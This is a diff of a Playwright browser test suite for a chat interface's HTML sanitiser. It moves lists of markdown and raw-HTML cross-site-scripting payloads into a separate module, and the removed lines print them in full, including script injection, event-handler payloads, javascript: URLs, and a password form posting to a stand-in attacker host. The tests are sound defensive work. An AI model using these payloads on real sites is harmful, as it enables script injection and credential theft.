@@ -6,56 +6,12 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Page, expect
 
+from conversations.layout import visible
+from tests.browser.attacks import ELSEWHERE, MARKED, RAW
 from tests.browser.conversing import Chat
 
-ELSEWHERE = "http://attacker.invalid"
-MARKED = (
-    f"![a picture]({ELSEWHERE}/1.png)",
-    f"![by reference][x]\n\n[x]: {ELSEWHERE}/2.png",
-    f"[![linked]({ELSEWHERE}/3.png)]({ELSEWHERE}/4)",
-    "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkPTEiLz4=)",
-    "[click](javascript:window.owned=1)",
-    "[click](JaVaScRiPt:window.owned=1)",
-    "[click](&#106;avascript:window.owned=1)",
-    "[click](data:text/html,<script>window.owned=1</script>)",
-    "[click](vbscript:window.owned=1)",
-    "[click](\x01javascript:window.owned=1)",
-    "<javascript:window.owned=1>",
-    f'[title]({ELSEWHERE} "x\\" onmouseover=window.owned=1 y=\\"")',
-    '```x" onmouseover="window.owned=1\n<script>window.owned=1</script>\n```',
-    "~~~<img src=x onerror=window.owned=1>\ncode\n~~~",
-    "|a|\n|-|\n|<img src=x onerror=window.owned=1>|",
-)
-RAW = (
-    "<script>window.owned=1</script>",
-    f"<script src={ELSEWHERE}/5.js></script>",
-    "<img src=x onerror=window.owned=1>",
-    f"<img src={ELSEWHERE}/6.png srcset='{ELSEWHERE}/7.png 2x'>",
-    "<svg onload=window.owned=1>",
-    "<svg><script>window.owned=1</script></svg>",
-    f"<svg><image href={ELSEWHERE}/8.png /></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
-    f"<iframe src={ELSEWHERE}/9></iframe>",
-    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
-    f"<object data={ELSEWHERE}/10></object>",
-    f"<embed src={ELSEWHERE}/11>",
-    f"<link rel=stylesheet href={ELSEWHERE}/12.css>",
-    f"<style>@import '{ELSEWHERE}/13.css'; * {{ display: none }}</style>",
-    f"<div style='background: url({ELSEWHERE}/14.png); position: fixed; inset: 0'>cover</div>",
-    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/15'>",
-    f"<base href={ELSEWHERE}/>",
-    f"<form action={ELSEWHERE}/16><input name=password autofocus onfocus=window.owned=1></form>",
-    f"<video src={ELSEWHERE}/17.mp4 autoplay poster={ELSEWHERE}/18.png onerror=window.owned=1></video>",
-    f"<audio src={ELSEWHERE}/19.mp3 autoplay onerror=window.owned=1></audio>",
-    "<details open ontoggle=window.owned=1>",
-    "<body onload=window.owned=1>",
-    f"<a href={ELSEWHERE} ping={ELSEWHERE}/20 target=_top>link</a>",
-    "<a href=javascript:window.owned=1>link</a>",
-    "<template><script>window.owned=1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
-    "<div id=transcript></div><img name=getElementById>",
-    "</textarea><script>window.owned=1</script>",
-)
+PLAIN = 28  # the attacks that need no more than the sanitiser's list of tags below
+LIVE_IN_ADMIN = "#content :is(img[src=x], svg, math, iframe, object, embed, style, meta, base, video, audio)"
 LIVE = "script, img, svg, math, iframe, object, embed, link, style, meta, base, form, input, video, audio, [style]"
 
 
@@ -86,7 +42,7 @@ def refuses_all(chat: Chat) -> None:
 
 
 def test_text_of_a_message_and_of_an_answer_stays_text(chat: Chat, watched: list[str]) -> None:
-    attack = "\n\n".join(MARKED + RAW)
+    attack = "\n\n".join(attack for attack in MARKED + RAW if visible(attack) == attack)
     chat.ask(attack)
     chat.ask("What did I ask first?")
     expect(chat.messages("You").first).to_have_text(attack, use_inner_text=True)
@@ -124,7 +80,7 @@ def test_even_without_escaping_the_sanitiser_and_the_policy_hold(chat: Chat, wat
             for (const attack of attacks) box.append(purifier.sanitize(attack, {RETURN_DOM_FRAGMENT: true, FORBID_TAGS: ["img",
                 "image", "svg", "math", "style", "form", "input", "video", "audio"], FORBID_ATTR: ["style", "ping", "target"]}));
         }""",
-        list(RAW),
+        list(RAW[:PLAIN]),
     )
     assert chat.page.evaluate("window.owned") is None
     refused = chat.page.evaluate(
